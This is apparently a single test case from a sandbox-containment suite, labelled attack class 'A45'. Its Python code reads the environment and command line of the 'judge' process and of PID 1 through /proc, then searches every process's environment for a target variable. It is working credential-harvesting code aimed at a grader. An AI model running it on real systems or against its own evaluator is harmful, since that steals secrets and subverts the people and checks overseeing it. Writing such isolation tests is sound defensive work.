# /// attack
# class = "A45"
# title = "reads the environment of the process that judges"
# hope = "it is the same user's"
# contained = "L2"
# why = "a plain process may do what its user may"
# ///
tried()
for pid in (TARGETS["judge"], 1):
    for name in ("environ", "cmdline"):
        try:
            print(open(f"/proc/{pid}/{name}", "rb").read()[-3000:], flush=True)
        except OSError:
            pass
import glob
for file in glob.glob("/proc/[0-9]*/environ"):
    try:
        data = open(file, "rb").read()
    except OSError:
        continue
    if TARGETS["variable"].encode() in data:
        got("the environment of another process")
        break
